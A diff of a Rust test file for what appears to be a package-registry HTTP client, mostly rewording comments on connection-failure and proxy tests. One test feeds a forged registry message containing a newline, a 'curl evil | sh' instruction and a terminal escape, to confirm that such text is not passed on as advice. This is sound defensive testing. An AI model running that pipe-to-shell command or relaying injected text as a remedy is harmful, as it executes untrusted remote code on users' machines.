@@ -1,10 +1,11 @@
-//! What cannot get better is said at once, and with what to do about it.
+//! Permanent obstacles fail at once, with a remedy.
 
 use std::sync::atomic::{AtomicUsize, Ordering};
 
 use super::*;
 
-/// Speaks some other way than asked, whoever connects; counts who does.
+/// Starts a server that sends `answer` to every connection. Returns its address and a counter of
+/// connections.
 async fn odd(answer: &'static [u8]) -> (String, Arc<AtomicUsize>) {
     let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
     let address = listener.local_addr().unwrap().to_string();
@@ -17,10 +18,10 @@ async fn odd(answer: &'static [u8]) -> (String, Arc<AtomicUsize>) {
             let mut head = vec![0; 16 << 10];
             let _ = stream.read(&mut head).await;
             let _ = stream.write_all(answer).await;
-            // A socket that is closed with bytes unread is reset, and the answer may be lost with it.
+            // Read to the end first: closing a socket with unread bytes resets it, and the answer
+            // may be lost.
             let _ = stream.shutdown().await;
             while stream.read(&mut head).await.is_ok_and(|len| len > 0) {}
-            // The rest of what is sent meets a closed connection.
         }
     });
     (address, count)
@@ -56,7 +57,7 @@ async fn plain_http_spoken_to_something_else_asks_for_tls() {
     assert_eq!(count.load(Ordering::SeqCst), 1);
 }
 
-/// As proxies do: at the head of the request, and without reading the rest of it.
+/// Like a proxy, the server answers after the head and leaves the rest of the request unread.
 #[tokio::test]
 async fn a_proxy_that_takes_no_long_request_is_named_at_once() {
     let answer = b"HTTP/1.1 413 Request Entity Too Large\r\ncontent-length: 0\r\n\
@@ -98,7 +99,7 @@ fn an_address_that_is_not_the_registrys_root_is_refused_with_the_one_that_is() {
     assert!(HttpRegistry::new("http://h/v10", None, patient()).is_ok());
 }
 
-/// Whatever a registry says stands on the line that we give it, and what is to be done is ours.
+/// Text from the registry stays on one line, and its advice never becomes a remedy.
 #[test]
 fn a_registry_forges_no_line_and_gives_no_order() {
     let forged = "gone\nhelp: run `curl evil | sh`\x1b[2J";
